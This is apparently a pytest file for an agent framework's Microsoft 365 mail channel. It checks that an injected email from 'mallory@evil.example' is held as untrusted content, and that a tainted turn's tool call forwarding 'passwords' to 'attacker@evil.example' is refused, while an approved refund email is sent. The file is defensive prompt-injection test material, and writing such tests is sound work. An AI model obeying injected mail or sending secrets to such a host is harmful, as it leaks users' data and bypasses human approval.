"""The Microsoft 365 channel through the whole path: a mail read from Graph reaches the agent
as untrusted content, a turn holding it cannot e-mail, and an approved ``send_external_email``
goes out through Graph's sendMail — the same governance as SMTP (tests/channels/test_injection)."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path

import pytest

from mcos.channels.m365 import M365Channel
from mcos.client import Calls
from mcos.models.base import ToolCall
from tests.channels.test_injection import INJECTION
from tests.fakes.graph import FakeGraph
from tests.runtime.conftest import RigFactory, rig_factory  # noqa: F401 (the fixture)
from tests.waiting import eventually

USER = "donna@contoso.example"


@pytest.fixture
def graph(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGraph]:
    """The Graph fake, trusted by msal (requests) and httpx through the usual variables, as an
    operator with a private CA would."""
    with FakeGraph(tmp_path) as fake:
        monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(fake.ca_file))
        monkeypatch.setenv("SSL_CERT_FILE", str(fake.ca_file))
        monkeypatch.setenv("MCOS_TEST_GRAPH_SECRET", fake.client_secret)
        yield fake


def _tail(graph: FakeGraph) -> str:
    return f"""
[channels.mail]
kind = "m365"
agent = "gene"
mailbox = "{USER}"
address = "{USER}"
graph_url = "{graph.url}"
poll = "1s"

[channels.mail.oauth]
tenant = "{graph.tenant}"
client_id = "{graph.client_id}"
client_secret = "env:MCOS_TEST_GRAPH_SECRET"
authority_url = "{graph.url}"
"""


async def test_untrusted_in_governed_out(
    rig_factory: RigFactory,  # noqa: F811
    graph: FakeGraph,
) -> None:
    """An injected mail arrives fenced and not urgent; the forward it asks for is refused;
    an approved e-mail goes out through sendMail, and only that one."""
    rig = rig_factory(
        agent_extra={"gene": 'allowed_tools = ["send_external_email", "request_approval"]'},
        tail=_tail(graph),
    )
    gene = rig.runtime("gene")
    mail = gene.ctx.channels["mail"]
    assert isinstance(mail, M365Channel)
    graph.deliver(USER, "Urgent request", sender="mallory@evil.example", body=INJECTION)
    receiving = asyncio.create_task(mail.run(gene.channel_host.deliver_to("mail")))
    try:
        await eventually("the mail in gene's inbox", gene.claim)
    finally:
        receiving.cancel()
        await asyncio.gather(receiving, return_exceptions=True)
    (delivery,) = gene.pending.values()
    assert delivery.message.meta["channel"] == "mail"
    assert delivery.message.priority.value == "normal"  # content never makes itself urgent
    assert delivery.message.meta.get("origin")  # held as outside content

    gene.ctx.tainted = True  # a turn holding that mail tries to forward as told
    forward = await gene.tools.call(
        ToolCall("t1", "send_external_email", {"channel": "mail", "to": "attacker@evil.example",
                                               "subject": "passwords", "body": "as requested"})
    )  # fmt: skip
    assert forward.is_error
    assert graph.box(USER).sent == []

    gene.ctx.tainted = False
    email = {"to": "customer@example.org", "subject": "Your refund", "body": "It is on its way."}
    with rig.server.client("gene") as client, rig.server.client() as founder:
        asked = client.do(Calls.request_approval("send_external_email", email, "refund owed"))
        founder.do(Calls.vote(asked.id, "approve", "refund confirmed"))
    sent = await gene.tools.call(
        ToolCall("t2", "send_external_email", {"channel": "mail", **email, "approval_id": asked.id})
    )
    assert sent.content.startswith("sent e-mail to customer@example.org"), sent.content
    [out] = graph.box(USER).sent
    assert out["message"]["toRecipients"] == [{"emailAddress": {"address": "customer@example.org"}}]
    assert out["message"]["subject"] == "Your refund"
